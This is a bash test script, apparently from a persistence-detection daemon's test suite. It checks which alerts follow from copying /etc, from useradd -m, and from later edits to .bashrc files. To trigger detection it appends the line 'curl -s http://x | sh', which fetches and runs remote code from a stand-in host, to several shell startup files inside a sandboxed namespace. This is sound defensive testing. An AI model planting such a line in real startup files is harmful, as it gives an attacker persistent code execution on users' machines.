#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# Copies are not persistence: a backup copy of /etc (cp -a /etc
# /var/backups/etc-x) and useradd -m filling a new home from /etc/skel
# raise nothing of severity 50 or more; the skel copy is a low-severity
# MW-PERSIST-018 and the account MW-PERSIST-010. A shell startup file
# changed afterwards in the new account's home (read from /etc/passwd)
# is MW-PERSIST-007 again; one in the backup copy is nothing.
#
# The daemon runs in a private namespace with a copy of /etc on a tmpfs
# (file_ns_lib.sh), so it reads the /etc/passwd useradd changes; the
# host's /etc/passwd is never touched.
DNS_ETC_COPY=1
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/file_lib.sh"
. "$(dirname "$0")/file_ns_lib.sh"

command -v useradd >/dev/null || skip "useradd is not installed"
file_rules_copy
mw_start --rules "$T/rules" || finish

dns_run '
[ "$(stat -f -c %T /etc/passwd)" = tmpfs ] || exit 99
for m in /var/backups /var/mail /var/spool/mail; do
	[ -d "$m" ] || continue
	mount -t tmpfs tmpfs "$m" && mountpoint -q "$m" || exit 99
done
cp -a /etc /var/backups/etc-x
useradd -m -s /bin/bash mwcopytest || exit 98
grep -q "^mwcopytest:" /etc/passwd || exit 98
' 
rc=$?
[ "$rc" -eq 98 ] && fail "useradd failed"

line=$(expect_one_alert MW-PERSIST-018 '.file.path == "/home/mwcopytest/.bashrc"' "skel copy into the new home" 15)
[ -n "$line" ] && expect "$line" '.process.name == "useradd" and .event.severity < 50' "by useradd, low severity"
wait_for '.event.kind == "alert" and .rule.id == "MW-PERSIST-010" and .file.target_path == "/etc/passwd"' 10 >/dev/null &&
	ok "account creation reported (MW-PERSIST-010)" || fail "no MW-PERSIST-010 for useradd"

# Later changes: in the new account's home (an alert), in the copy (none).
dns_run '
echo "curl -s http://x | sh" >> /var/backups/etc-x/skel/.bashrc
echo "curl -s http://x | sh" >> /var/backups/etc-x/bash.bashrc
echo "curl -s http://x | sh" >> /home/mwcopytest/.bashrc
'
line=$(expect_one_alert MW-PERSIST-007 '.file.path == "/home/mwcopytest/.bashrc"' "startup file changed in the new account's home")
[ -n "$line" ] && expect "$line" '.process.name == "bash" and .event.severity >= 60' "by bash, severity 60"

dns_marker copies
n=$(alerts_where '.event.severity >= 50 and .file.path != "/home/mwcopytest/.bashrc" and .file.path != "/etc/cron.d/zz-marker-copies"' | wc -l)
if [ "$n" -eq 0 ]; then
	ok "the /etc copy and useradd -m raise nothing of severity >= 50"
else
	fail "$n alerts of severity >= 50"
	alerts_where '.event.severity >= 50' | jq -c '[.rule.id, .event.severity, .event.action, .file.path, .file.target_path, .process.name]' >&2
fi
n=$(alerts_where '(.file.path // "" | startswith("/var/backups/")) or (.file.target_path // "" | startswith("/var/backups/"))' | wc -l)
[ "$n" -eq 0 ] && ok "nothing about the backup copy" || fail "$n alerts about /var/backups"

mw_stop
expect_valid_json
finish
